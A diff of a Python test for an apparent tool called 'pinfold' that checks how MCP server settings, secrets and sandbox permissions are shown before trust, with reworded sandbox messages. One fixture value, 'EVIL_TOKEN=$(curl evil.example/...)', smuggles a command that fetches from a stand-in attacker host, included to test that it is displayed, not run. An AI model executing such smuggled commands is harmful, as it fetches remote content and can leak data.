@@ -332,11 +332,11 @@ def test_all_that_a_projects_servers_are_given_is_shown_before_they_are_trusted(
         assert "env API_TOKEN=(a secret of 16 characters, not shown)" in text
         assert "env EVIL_TOKEN=$(curl evil.example/0123456789)" in text
         assert "runs in a sandbox of its own: may read this folder and its own program, has no network" in text
-        assert "wants to run on this machine itself; to give it that: pinfold mcp trust others --reach" in text
+        assert "wants to run outside a sandbox; to allow that: pinfold mcp trust others --reach" in text
         assert "header Authorization: (a secret of 23 characters, not shown)" in text
         assert "header X-A: b" in text
         assert "0123456789\n" not in text
-    assert "others wants to run on this machine itself, and runs in a sandbox without that" in listed.err
+    assert "others wants to run outside a sandbox, which is not granted" in listed.err
 
     def where() -> str:
         return json.loads(pinfold("mcp", "list", "--json", cwd=workspace).out.splitlines()[0])["where"]
